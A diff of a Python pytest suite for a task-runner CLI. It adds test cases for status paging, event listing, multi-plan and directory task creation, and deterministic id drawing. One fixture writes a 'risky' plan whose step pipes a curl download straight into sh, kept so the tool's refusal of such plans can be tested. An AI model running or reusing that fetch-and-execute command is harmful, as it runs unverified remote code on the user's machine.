@@ -59,7 +59,12 @@ def _build(home: Path) -> dict[str, str]:
     (home / "risky.yaml").write_text("steps:\n  - name: fetch\n    run: curl -s https://example.invalid/x | sh\n")
     (home / "slow.yaml").write_text("steps:\n  - name: long\n    run: \"true\"\n    estimate: 120\n")
     (home / "broken.yaml").write_text("steps:\n  - name: a\n    run: true\n")
-    return {"{PLAN}": str(home / "one.yaml"), "{RISKY}": str(home / "risky.yaml"),
+    (home / "plans").mkdir()
+    (home / "plans" / "a.yaml").write_text("steps:\n  - name: a\n    run: \"true\"\n")
+    (home / "plans" / "b.yml").write_text("steps:\n  - name: b\n    run: \"true\"\n    estimate: 120\n")
+    (home / "no-plans").mkdir()
+    return {"{PLAN}": str(home / "one.yaml"), "{DIR}": str(home / "plans"), "{NODIR}": str(home / "no-plans"),
+            "{RISKY}": str(home / "risky.yaml"),
             "{BROKEN}": str(home / "broken.yaml"), "{SLOW}": str(home / "slow.yaml"),
             "{Q}": queued, "{Q5}": queued[:5], "{D}": done,
             "{F}": failed, "{P}": paused, "{C}": cancelled, "{A}": shared, "{H}": str(home), "{CFG}": str(config)}
@@ -166,6 +171,27 @@ FAST_SHAPES = [
     "task|list|--status|running|--no-start|--json",
     "task|status|{D}|--no-start",
     "task|status|{F}|--json|--no-start",
+    # status: which steps (summary, full table, a page) and their bad combinations
+    "task|status|{F}|--summary",
+    "task|status|{F}|--summary|--json",
+    "task|status|{D}|--steps",
+    "task|status|{D}|--steps|--json",
+    "task|status|{D}|--limit|1",
+    "task|status|{D}|--limit=1|--offset|1|--json",
+    "task|status|{D}|--offset=5",
+    "task|status|{D}|--limit|0",
+    "task|status|{D}|--summary|--steps",
+    "task|status|{D}|--summary|--limit|1",
+    "task|status|{D}|--limit|999999999",
+    # events: JSON lines and plain lines, --after, unknown and ambiguous ids, bad --after
+    "task|events|{D}|--json",
+    "task|events|{F}",
+    "task|events|{D}|--json|--after|3",
+    "task|events|--after=2|{F}|--json",
+    "task|events|{D}|--after|1",
+    "task|events|zzzz|--json",
+    "task|events|{A}",
+    "task|events|{Q5}|--json",
     # pause / resume / cancel: success, wrong state, unknown and ambiguous ids
     "task|pause|{Q}",
     "task|pause|{Q5}",
@@ -218,7 +244,20 @@ FAST_SHAPES = [
     "task|create|--plan|{PLAN}|--no-start|--stakeholders|,",
     "task|create|--plan|{PLAN}|--no-start|--workdir|{H}/nowhere",
     "--config|{H}/missing-config.yaml|task|create|--plan|{PLAN}|--no-start",
+    # several plans, a plan directory (one task each; a refused plan is named, the others stored)
+    "task|create|--plan|{PLAN}|--plan|{SLOW}|--no-start|--deadline|1m",
+    "task|create|-p|{PLAN}|-p|{BROKEN}|-p|{RISKY}|--no-start",
+    "task|create|-p|{BROKEN}|-p|{PLAN}|--no-start|--json",
+    "task|create|--plan|{DIR}|--no-start",
+    "task|create|--plan|{DIR}|--plan|{PLAN}|--no-start|--json",
+    "task|create|--plan|{DIR}|--mode|dry-run",
+    "task|create|--plan|{NODIR}|--no-start",
 ]
+
+
+def _draw_ids(monkeypatch: pytest.MonkeyPatch) -> None:
+    ids = iter(f"c0ff{i:02x}" for i in range(256))
+    monkeypatch.setattr(secrets, "token_hex", lambda n: next(ids))
 
 
 @pytest.mark.parametrize("shape", FAST_SHAPES)
@@ -227,11 +266,12 @@ def test_fast_path_answers_as_typer_does(shape, snapshot, home, monkeypatch):
     argv = _argv(shape, values)
     assert fast.parse(argv) is not None, "the fast path should serve this shape"
     monkeypatch.setattr(time, "time", lambda: FROZEN)
-    monkeypatch.setattr(secrets, "token_hex", lambda n: "c0ffee")  # the id a create draws
     _restore(snapshot[0], home)
+    _draw_ids(monkeypatch)  # the ids creates draw, the same sequence on both runs
     got_fast = _run_fast(argv)
     db_fast = _db_dump(home)
     _restore(snapshot[0], home)
+    _draw_ids(monkeypatch)
     got_typer = _run_typer(argv)
     db_typer = _db_dump(home)
     assert got_fast == got_typer
@@ -239,8 +279,10 @@ def test_fast_path_answers_as_typer_does(shape, snapshot, home, monkeypatch):
     # Not vacuous: every shape printed something and errors are one line.
     code, out, err = got_fast
     assert out or err
-    if code:
+    if code and "--plan|{PLAN}|" not in shape and "-p|{PLAN}|" not in shape:
         assert err.count("\n") == 1 and err.startswith("error: "), err
+    elif code:  # a batch: the refused plan's one line among the others' warnings and notices
+        assert sum(ln.startswith("error: ") for ln in err.splitlines()) == 1, err
 
 
 def test_the_fast_path_acts_on_the_database(snapshot, home):
@@ -275,8 +317,9 @@ def test_piped_list_and_status_are_plain_rows(snapshot, home):
     table = lines[lines.index("") + 1:]
     assert table[0].split() == ["step", "status", "try", "time", "exit", "detail"]
     first = table[1].split()
-    assert first[:5] == ["first", "★", "failed", "1/1", first[4]] and first[5] == "3"
-    assert table[2].split()[:3] == ["second", "★", "skipped"] or table[2].split()[:3] == ["second", "★", "cancelled"]
+    assert first[:4] == ["first", "failed", "1/1", first[3]] and first[4] == "3"
+    assert table[2].split()[:2] in (["second", "skipped"], ["second", "cancelled"])
+    assert "critical path: first, second" in lines
 
 
 def test_create_warnings_are_the_same_both_ways(snapshot, home):
@@ -343,6 +386,14 @@ FALLBACK_SHAPES = [
     "task|list|--limit|abc",
     "task|list|--limit|-1",
     "task|list|--limit|007",
+    "task|status|{D}|--limit|-1",
+    "task|status|{D}|--offset|x",
+    "task|status|{D}|--limit",
+    "task|status|{D}|--summary=1",
+    "task|events|{D}|--follow",
+    "task|events|{D}|-f|--json",
+    "task|events|{D}|--after|-1",
+    "task|events|{D}|--after|x",
     "task|list|--json=1",
     "task|list|--status",
     "task|cancel|{Q}|--reason",
